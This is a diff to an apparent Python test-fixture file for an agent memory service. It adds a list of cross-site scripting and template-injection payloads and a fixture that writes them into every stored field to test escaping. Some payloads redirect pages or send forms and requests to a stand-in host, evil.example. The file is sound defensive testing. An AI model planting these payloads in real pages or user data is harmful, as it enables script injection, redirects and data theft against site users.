@@ -156,6 +156,57 @@ class World:
         ]
 
 
+CORPUS = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "</title></textarea></style></script><script>alert(1)</script>",
+    '<a href="javascript:alert(1)">click</a>',
+    "javascript:alert(1)",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '" autofocus onfocus="alert(1)',
+    "' hx-get='/static/app.js' hx-trigger='load' x='",
+    "<div hx-get=/admin hx-trigger=load hx-on:htmx:load=alert(1)>",
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    "<base href=//evil.example/><form action=//evil.example><button>",
+    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
+    "--><!--<img src=x onerror=alert(1)>-->",
+    "<style>*{background:url(//evil.example)}</style>",
+    "{{ 7*7 }}${7*7}#{7*7}<%= 7*7 %>{% raw %}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+)
+"""What has run in other people's pages."""
+
+
+async def vandalised(memory: Remembrancer) -> World:
+    """A world with hostile text everywhere, and each of the corpus as a name of everything."""
+    world = await peopled(memory, CORPUS[0] + CORPUS[1] + CORPUS[2])
+    ada = as_actor(world.ada)
+    for text in CORPUS:
+        await memory.agents.create(
+            as_actor(), AgentCreate(name=text, description=text, system_prompt=text)
+        )
+        space = await memory.spaces.create(ada, SpaceCreate(name=text, description=text))
+        await memory.places.add(ada, PlaceCreate(place_id=text, place_name=text, notes=text))
+        statements = [
+            MemoryCreate(content=text, subject=text, allow_similar=True),
+            MemoryCreate(content=f"In a space: {text}", subject=text, space_id=space.id),
+            MemoryCreate(content=f"Perhaps: {text}", subject=text, pending=True),
+        ]
+        await memory.memories.remember_many(
+            ada, [one.model_copy(update={"allow_similar": True}) for one in statements]
+        )
+        talk = await memory.conversations.create(ada, ConversationCreate(title=text))
+        await memory.conversations.append(
+            ada, talk.id, [MessageCreate(content=text, role="user", sender_name=text[:80])]
+        )
+        await memory.users.resolve(
+            as_actor(), ResolveUser(platform=text, platform_user_id=text, display_name=text)
+        )
+    return world
+
+
 async def peopled(memory: Remembrancer, words: str = "") -> World:
     """A world; ``words`` are in every text of it."""
     staff = as_actor()
